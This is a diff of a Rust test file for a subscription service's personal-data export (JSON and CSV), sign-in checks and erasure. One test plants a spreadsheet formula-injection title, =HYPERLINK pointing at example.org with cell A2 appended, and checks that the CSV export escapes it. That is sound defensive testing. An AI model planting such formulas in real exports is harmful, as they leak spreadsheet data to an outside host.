@@ -1,29 +1,36 @@
 // SPDX-License-Identifier: EUPL-1.2
 //! What is held about a person: they take all of it along, and have it erased at once.
 
+use std::collections::BTreeSet;
+
 use axum::http::StatusCode;
 use chrono::TimeDelta;
 use informa::domain::bounce::SuppressionReason;
 use informa::domain::ids::SubscriberId;
-use informa::domain::notification::{Channel, State};
 use informa::domain::profile::Frequency;
 use informa::domain::subscriber::SubscriberStatus;
 use informa::services::ask_to_subscribe::{add_own_mailbox, ask_to_subscribe};
 use informa::services::compose_digests::compose_digests;
 use informa::services::erase_person::erase_person;
+use informa::services::forget_people::forget_people;
 use informa::services::import_subscribers::import_subscribers;
 use informa::services::move_mailbox::ask_to_move;
+use informa::services::personal_data::read_personal_data;
 use informa::services::private_feeds::renew_feeds;
 use informa::services::read_inbox::mark_read;
+use informa::services::read_status::read_status;
 use informa::services::remove_target::remove_target;
 use informa::services::save_for_later::save_for_later;
 use informa::services::save_profile::{mute_opportunity, remove_profile, save_profile};
 use informa::services::send_letters::send_letters;
-use informa::storage::{consents, subscribers, targets};
+use informa::services::send_sign_in_link::send_link_to_browser;
+use informa::services::unsubscribe::leave_service;
+use informa::storage::{consents, inbox, subscribers, targets};
 use serde_json::{Value, json};
 
 use crate::support::app::TestApp;
 use crate::support::builders::{CONSENT, a_call, a_citizen, an_operator};
+use crate::support::full_life::{ADDED, NAME, NEXT, OWN, a_full_life, leading_to_people};
 use crate::support::on_both_engines;
 use crate::support::reader::Reader;
 use crate::support::rows;
@@ -31,7 +38,12 @@ use crate::support::smtp_receiver::Stage;
 
 on_both_engines! {
     the_file_holds_everything_that_was_chosen_and_told,
+    nothing_that_leads_to_a_person_is_left_out,
+    everything_comes_as_a_table_too,
+    what_was_only_asked_for_is_shown_alike_whosever_it_is,
+    whoever_left_still_reads_what_they_were_sent,
     the_notifications_come_as_a_table_too,
+    a_title_is_no_formula_of_a_spreadsheet,
     nobody_reads_it_without_being_signed_in,
     erasing_is_asked_first_and_signs_out,
     nothing_personal_is_left_after_erasing,
@@ -79,7 +91,8 @@ async fn the_file_holds_everything_that_was_chosen_and_told(app: &TestApp) {
         profile["topics"],
         json!([{"topic": "environment", "frequency": null, "channels": null}])
     );
-    assert_eq!(profile["saved"], json!([app.urls.opportunity(&call)]));
+    let saved = json!([{"url": app.urls.opportunity(&call), "frequency": null, "channels": null}]);
+    assert_eq!(profile["saved"], saved);
     let target = &data["targets"][0];
     assert_eq!(
         (&target["channel"], &target["address"], &target["status"]),
@@ -99,6 +112,203 @@ async fn the_file_holds_everything_that_was_chosen_and_told(app: &TestApp) {
         (&json!("Orti di quartiere"), &json!(true))
     );
     assert_eq!(line["url"], json!(app.urls.opportunity(&call)));
+}
+
+/// Every table with a column that leads to a person, and where the file tells what is in it. A table that is not here has to
+/// be added, with its place in the file.
+const TOLD: [(&str, &str); 24] = [
+    ("consents", "/consents/0/text"),
+    ("follow_ups", "/follow_ups/0/why"),
+    ("follows", "/profiles/0/topics/0/topic"),
+    ("lessened_follows", "/profiles/0/told_less_of/0"),
+    ("links", "/open_links/0/purpose"),
+    ("mailbox_moves", "/asked_address"),
+    ("mailbox_requests", "/waiting_addresses/0/address"),
+    ("matches", "/inbox/0/title"),
+    ("muted_opportunities", "/profiles/0/muted_opportunities/0"),
+    ("muted_sources", "/profiles/0/muted_sources/0"),
+    ("muted_topics", "/profiles/0/muted_topics/0"),
+    ("notifications", "/messages/0/state"),
+    // What was written to them alone is told as messages.
+    ("occasions", "/messages/0/why"),
+    ("profile_areas", "/profiles/0/areas/0"),
+    ("profile_sectors", "/profiles/1/sectors/0"),
+    ("profiles", "/profiles/0/chosen_at"),
+    ("read_opportunities", "/read_elsewhere/0"),
+    ("relevance_answers", "/relevance_answers/0/answer"),
+    ("removed_profiles", "/removed_profiles/0/kind"),
+    ("saved_opportunities", "/profiles/0/saved/0/frequency"),
+    ("sessions", "/signed_in_until/0"),
+    ("strikes", "/targets/0/failures/failed_at/0"),
+    ("subscribers", "/subscribed_at"),
+    ("targets", "/targets/0/address"),
+];
+
+async fn nothing_that_leads_to_a_person_is_left_out(app: &TestApp) {
+    let mut maria = a_full_life(app).await;
+    let leading: BTreeSet<String> = leading_to_people(app)
+        .await
+        .into_iter()
+        .map(|(table, _)| table)
+        .collect();
+    // These lead to them by their own number, or by what a session says.
+    let beside = ["subscribers", "sessions"].map(str::to_owned);
+    let told: BTreeSet<String> = TOLD.iter().map(|(table, _)| (*table).to_owned()).collect();
+    assert_eq!(leading.into_iter().chain(beside).collect::<BTreeSet<_>>(), told);
+
+    let answer = maria.reader.open("/preferenze/dati.json").await;
+    let data: Value = serde_json::from_str(&answer.text).unwrap();
+    for (table, place) in TOLD {
+        let found = data.pointer(place).filter(|it| !it.is_null() && **it != json!(""));
+        assert!(
+            found.is_some(),
+            "of {table} nothing is told at {place}: {}",
+            answer.text
+        );
+    }
+    assert_eq!(data["asked_address"], json!(NEXT));
+    let waiting: Vec<&Value> = data["waiting_addresses"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|it| &it["address"])
+        .collect();
+    assert_eq!(waiting, [ADDED]);
+    assert_eq!(data["removed_profiles"][0]["kind"], json!("authority"));
+    assert_eq!(data["read_elsewhere"], json!([app.urls.opportunity(&maria.elsewhere)]));
+    let saved = json!({"url": app.urls.opportunity(&maria.call), "frequency": "daily", "channels": ["email"]});
+    assert_eq!(data["profiles"][0]["saved"], json!([saved]));
+    let whys: BTreeSet<&str> = data["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|it| it["why"].as_str().unwrap())
+        .collect();
+    for why in ["published", "confirmation", "sign_in", "test", "mailbox_move"] {
+        assert!(whys.contains(why), "{why} is none of {whys:?}");
+    }
+    let browsers = data["targets"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|it| it["channel"] == "web_push");
+    let told: Vec<i64> = browsers.map(|it| it["told_in_week"].as_i64().unwrap()).collect();
+    assert!(told.len() == 2 && told.iter().all(|count| *count > 0), "{told:?}");
+    let link = &data["open_links"][0];
+    assert!(
+        link["expires_at"].is_string() && link["made_at"].is_string() && link["to"].is_string(),
+        "{link}"
+    );
+    let mut transaction = app.database.read().await.unwrap();
+    let code = app.relay.only_mail_to(OWN).code_after("/accedi/");
+    assert!(!answer.text.contains(&code), "the code of a link opens a door");
+    let feeds = inbox::feed_number(&mut transaction, maria.id).await.unwrap().unwrap();
+    assert!(!answer.text.contains(&feeds.to_string()));
+}
+
+async fn everything_comes_as_a_table_too(app: &TestApp) {
+    let mut maria = a_full_life(app).await;
+    let page = maria.reader.open("/preferenze").await;
+    let links = page.texts("#your-data ~ p.actions a");
+    assert_eq!(
+        links,
+        [
+            "Scarica tutto (JSON, per programmi)",
+            "Scarica tutto (CSV, per fogli di calcolo)",
+            "Scarica l'elenco dei tuoi avvisi (CSV)"
+        ]
+    );
+    let answer = maria.reader.open("/preferenze/dati.csv").await;
+    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
+    assert_eq!(
+        answer.header("content-disposition"),
+        "attachment; filename=\"informa.csv\""
+    );
+    let text = answer.text.strip_prefix('\u{feff}').unwrap();
+    let mut table = csv::Reader::from_reader(text.as_bytes());
+    assert_eq!(table.headers().unwrap(), vec!["Parte", "Numero", "Che cosa", "Valore"]);
+    let rows: Vec<csv::StringRecord> = table.records().map(|row| row.unwrap()).collect();
+    let has = |expected: [&str; 4]| rows.iter().any(|row| *row == expected.to_vec());
+    for expected in [
+        ["In generale", "", "lingua", "it"],
+        ["Profili", "1", "fascia di età", "25-29"],
+        ["Profili", "1", "argomenti 2 · frequenza", "weekly"],
+        ["Dove ti avvisiamo", "1", "indirizzo", OWN],
+        ["Dove ti avvisiamo", "2", "nome", NAME],
+        ["Indirizzi in attesa di conferma", "1", "indirizzo", ADDED],
+        ["Profili che hai tolto", "1", "tipo", "authority"],
+        ["Le tue risposte", "1", "risposta", "useful"],
+    ] {
+        assert!(has(expected), "{expected:?} is not in\n{text}");
+    }
+    let json = maria.reader.open("/preferenze/dati.json").await;
+    let data: Value = serde_json::from_str(&json.text).unwrap();
+    let messages = data["messages"].as_array().unwrap().len();
+    let told: BTreeSet<&str> = rows
+        .iter()
+        .filter(|row| &row[0] == "Messaggi")
+        .map(|row| &row[1])
+        .collect();
+    assert_eq!(told.len(), messages, "each message is there");
+    let is_code = |name: &str| name.contains('_') || name.starts_with("data-");
+    let unnamed: Vec<_> = rows.iter().filter(|row| is_code(&row[0]) || is_code(&row[2])).collect();
+    assert!(unnamed.is_empty(), "not in words: {unnamed:?}");
+}
+
+async fn what_was_only_asked_for_is_shown_alike_whosever_it_is(app: &TestApp) {
+    app.subscribe(&a_citizen().called("altra@example.org")).await;
+    let (id, browser) = app.subscribe_browser(&a_citizen().by(&["web_push"])).await;
+    for address in ["altra@example.org", "libera@example.org"] {
+        let address = a_citizen().called(address).address();
+        add_own_mailbox(app, id, &address).await.unwrap();
+    }
+    send_link_to_browser(app, &browser.endpoint, &browser.auth)
+        .await
+        .unwrap();
+    app.run_jobs().await;
+    let message = app.push_service.messages_to(&browser).pop().unwrap();
+    let code = message.navigate().rsplit('/').next().unwrap().to_owned();
+    let mut reader = Reader::new(app);
+    reader.open(&format!("/accedi/{code}")).await;
+    reader.send(&format!("/accedi/{code}"), &[]).await;
+    let page = reader.open("/preferenze").await;
+    assert_eq!(
+        page.texts("#waiting strong"),
+        ["altra@example.org", "libera@example.org"]
+    );
+    let answer = reader.open("/preferenze/dati.json").await;
+    let data: Value = serde_json::from_str(&answer.text).unwrap();
+    assert_eq!(data["waiting_addresses"].as_array().unwrap().len(), 2);
+    for address in ["altra", "libera"] {
+        let times = answer.text.matches(address).count();
+        assert_eq!(times, 1, "nothing more is told of {address}: {}", answer.text);
+    }
+    app.advance(TimeDelta::days(31));
+    forget_people(app).await.unwrap();
+    let data = serde_json::to_value(read_personal_data(app, id).await.unwrap()).unwrap();
+    assert_eq!(
+        data["waiting_addresses"],
+        json!([]),
+        "as long as a request that nobody confirms"
+    );
+}
+
+async fn whoever_left_still_reads_what_they_were_sent(app: &TestApp) {
+    let person = app.subscribe(&a_citizen()).await;
+    app.publish(&a_call()).await;
+    ask_to_move(app, person, &a_citizen().called(NEXT).address())
+        .await
+        .unwrap();
+    app.run_jobs().await;
+    leave_service(app, person).await.unwrap();
+    let data = read_personal_data(app, person).await.unwrap();
+    let data = serde_json::to_value(&data).unwrap();
+    let messages = data["messages"].as_array().unwrap();
+    let whys: Vec<&str> = messages.iter().map(|it| it["why"].as_str().unwrap()).collect();
+    assert!(
+        whys.contains(&"published") && whys.contains(&"confirmation"),
+        "{whys:?}"
+    );
 }
 
 async fn the_notifications_come_as_a_table_too(app: &TestApp) {
@@ -122,10 +332,22 @@ async fn the_notifications_come_as_a_table_too(app: &TestApp) {
     assert_eq!(titles, ["Orti di quartiere", "Bando \"Sole\", terza edizione"]);
 }
 
+async fn a_title_is_no_formula_of_a_spreadsheet(app: &TestApp) {
+    let mut reader = Reader::of_person(app, &a_citizen()).await;
+    let formula = "=HYPERLINK(\"http://example.org/?\"&A2, \"Leggi\")";
+    app.publish(&a_call().titled(formula)).await;
+    app.run_jobs().await;
+    let answer = reader.open("/preferenze/avvisi.csv").await;
+    let mut table = csv::Reader::from_reader(answer.text.as_bytes());
+    let row = table.records().next().unwrap().unwrap();
+    assert_eq!(row[0], format!("'{formula}"), "it is shown and not calculated");
+}
+
 async fn nobody_reads_it_without_being_signed_in(app: &TestApp) {
     app.subscribe(&a_citizen()).await;
     for path in [
         "/preferenze/dati.json",
+        "/preferenze/dati.csv",
         "/preferenze/avvisi.csv",
         "/preferenze/cancella",
     ] {
@@ -179,7 +401,7 @@ async fn nothing_personal_is_left_after_erasing(app: &TestApp) {
     save_for_later(app, maria, call.id).await.unwrap();
     mark_read(app, maria, call.id).await.unwrap();
     renew_feeds(app, maria).await.unwrap();
-    let told = app.count(Channel::Email, State::Sent).await;
+    let told = sent(app).await;
     let before = rows::everything(&app.database).await;
     assert!(before.contains("maria.rossi@example.org") && before.contains(&browser.endpoint));
     reader.send("/preferenze/cancella", &[]).await;
@@ -207,11 +429,19 @@ async fn nothing_personal_is_left_after_erasing(app: &TestApp) {
     let proof = consents::list(&mut transaction, maria).await.unwrap();
     let actions: Vec<&str> = proof.iter().map(|(_, action, ..)| action.as_str()).collect();
     assert_eq!(actions, ["asked", "given", "withdrawn"], "the proof stays");
-    assert_eq!(
-        app.count(Channel::Email, State::Sent).await,
-        told,
-        "the numbers stay true"
-    );
+    drop(transaction);
+    assert_eq!(sent(app).await, told, "the numbers stay true");
+}
+
+/// How many messages were sent, as it was counted.
+async fn sent(app: &TestApp) -> u64 {
+    let status = read_status(app).await.unwrap();
+    let of = |channel: &str| status.notifications.get(channel).and_then(|counts| counts.get("sent"));
+    ["email", "web_push"]
+        .into_iter()
+        .filter_map(of)
+        .map(|count| u64::try_from(*count).unwrap())
+        .sum()
 }
 
 async fn what_was_owed_is_not_sent_after_erasing(app: &TestApp) {
